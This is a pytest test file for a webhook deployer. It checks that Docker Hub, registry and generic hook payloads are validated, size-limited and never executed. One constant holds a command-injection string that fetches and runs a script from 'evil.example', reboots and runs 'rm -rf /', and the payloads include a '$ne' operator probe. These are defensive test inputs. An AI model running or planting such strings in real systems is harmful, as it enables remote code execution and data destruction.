"""A hook's body: its text stays text, and there is never too much of it."""

import asyncio
import json
import logging
from typing import Any

import pytest

from tests.deployer.conftest import (
    REGISTRY,
    SECRET,
    House,
    dockerhub_body,
    settle,
)

SHELL = "latest; curl evil.example | sh #$(reboot)`id`\n&& rm -rf /"


async def test_shell_text_in_a_payload_is_text(
    house: House, caplog: pytest.LogCaptureFixture
) -> None:
    """A tag becomes a command, or a second line of the log."""
    caplog.set_level(logging.INFO)
    for data in (
        dockerhub_body(SHELL),
        dockerhub_body(repository={"repo_name": SHELL}),
        dockerhub_body(repository={"repo_name": "wetcoats/msrv" + SHELL}),
    ):
        answer = await house.dockerhub(data)
        assert answer.status == 202
        assert (await answer.json())["state"] == "ignored"
    await settle(house)
    assert house.begun == []
    assert all("\n" not in each.getMessage() for each in caplog.records)


@pytest.mark.parametrize("kind", ["dockerhub", "generic", "registry"])
async def test_ten_megabytes_are_refused_unread(
    house: House, kind: str
) -> None:
    """A body of any length is read into memory."""
    path = {
        "dockerhub": f"/hooks/dockerhub/store/{SECRET}",
        "generic": "/hooks/generic/store",
        "registry": "/hooks/registry/store",
    }[kind]
    reader, writer = await asyncio.open_connection(
        "127.0.0.1", house.client.port
    )
    writer.write(
        f"POST {path} HTTP/1.1\r\nHost: x\r\n"
        f"Authorization: Bearer {REGISTRY}\r\n"
        "Content-Length: 10485760\r\n\r\n".encode()
    )
    # Not a byte of the body is sent, and the answer is here.
    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 60)
    assert b" 413 " in head
    writer.close()
    await writer.wait_closed()


async def test_ten_megabytes_of_unsaid_length(house: House) -> None:
    """A body that doesn't say how long it is has no limit."""

    async def endless() -> Any:  # noqa: ANN401
        for _ in range(160):
            yield b" " * 65_536

    answer = await house.client.post(
        f"/hooks/dockerhub/store/{SECRET}", data=endless()
    )
    assert answer.status == 413


async def test_a_forger_s_body_is_not_read_at_all(house: House) -> None:
    """A stranger has the deployer wait for bodies."""
    reader, writer = await asyncio.open_connection(
        "127.0.0.1", house.client.port
    )
    writer.write(
        b"POST /hooks/dockerhub/store/wrong HTTP/1.1\r\nHost: x\r\n"
        b"Content-Length: 1000\r\n\r\n"
    )
    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 60)
    assert b" 404 " in head
    writer.close()
    await writer.wait_closed()


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 200_000,
        b'{"a":' * 40_000,
        b"",
        b"null",
        b"[]",
        b"1e999999",
        b'"text"',
        b"\xff\xfe{}",
        b'{"a": "\xed\xa0\x80"}',
        b"9" * 20_000,
        b"push_data=1",
    ],
    ids=lambda body: repr(body[:12]),
)
async def test_deep_or_broken_json_is_a_400(house: House, body: bytes) -> None:
    """Odd JSON ends the deployer, or a 500 tells how it is made."""
    answer = await house.dockerhub(body)
    assert answer.status == 400
    assert (await house.generic(body)).status == 400
    await settle(house)
    assert house.begun == []
    assert (await house.client.get("/-/health")).status == 200


@pytest.mark.parametrize(
    "data",
    [
        {},
        {"push_data": None, "repository": None},
        {"push_data": [], "repository": 5},
        {"push_data": {"tag": 7}, "repository": {"repo_name": ["x"]}},
        {"push_data": {"tag": "latest"}},
        {"repository": {"repo_name": "wetcoats/msrv"}},
        {
            "push_data": {"tag": {"$ne": ""}},
            "repository": {"repo_name": True},
        },
        {
            "push_data": {"tag": "latest"},
            "repository": {"repo_name": "evil/msrv"},
        },
        {
            "push_data": {"tag": "other"},
            "repository": {"repo_name": "wetcoats/msrv"},
        },
    ],
)
async def test_wrong_types_and_missing_keys_are_ignored(
    house: House, data: dict[str, Any], caplog: pytest.LogCaptureFixture
) -> None:
    """A payload of another form is an error, or worse, a deployment."""
    caplog.set_level(logging.INFO)
    answer = await house.dockerhub(data)
    assert answer.status == 202
    assert (await answer.json())["state"] == "ignored"
    await settle(house)
    assert house.begun == []
    assert "ignored a hook (dockerhub)" in caplog.text


@pytest.mark.parametrize(
    ("events", "state"),
    [
        ([], "ignored"),
        (None, "ignored"),
        ([1, "x", None, {}], "ignored"),
        ([{"action": "pull", "target": {}}], "ignored"),
        (
            [{"action": "pull", "target": {"repository": "wetcoats/msrv"}}],
            "ignored",
        ),
        (
            [
                {"action": "push", "target": {"digest": "sha256:0"}},
                {
                    "action": "push",
                    "target": {
                        "repository": "wetcoats/msrv",
                        "tag": "latest",
                    },
                },
            ],
            "queued",
        ),
    ],
)
async def test_a_registry_s_events(
    house: House, events: object, state: str
) -> None:
    """Each layer of a push is a deployment, or a push is none."""
    answer = await house.registry({"events": events})
    assert answer.status == 202
    assert (await answer.json())["state"] == state


@pytest.mark.parametrize(
    ("data", "state"),
    [
        ({"repository": "wetcoats/msrv", "tag": "latest"}, "queued"),
        ({"repository": "wetcoats/msrv"}, "queued"),
        ({"repository": "docker.io/wetcoats/msrv:latest"}, "queued"),
        (
            {"repository": "wetcoats/msrv:latest", "tag": "latest"},
            "queued",
        ),
        ({"repository": "wetcoats/msrv:other", "tag": "latest"}, "ignored"),
        ({"repository": "wetcoats/msrv:latest", "tag": "other"}, "ignored"),
        ({"repository": "wetcoats/msrv:other"}, "ignored"),
        ({"repository": "wetcoats/msrv", "tag": ""}, "ignored"),
        ({"repository": "wetcoats/msrv", "tag": 1}, "ignored"),
        ({"tag": "latest"}, "ignored"),
        ({}, "ignored"),
    ],
)
async def test_a_tag_is_read_where_registries_write_it(
    house: House, data: dict[str, Any], state: str
) -> None:
    """A name with its tag is about nothing, or any tag is about ours."""
    answer = await house.generic(json.dumps(data).encode())
    assert (await answer.json())["state"] == state
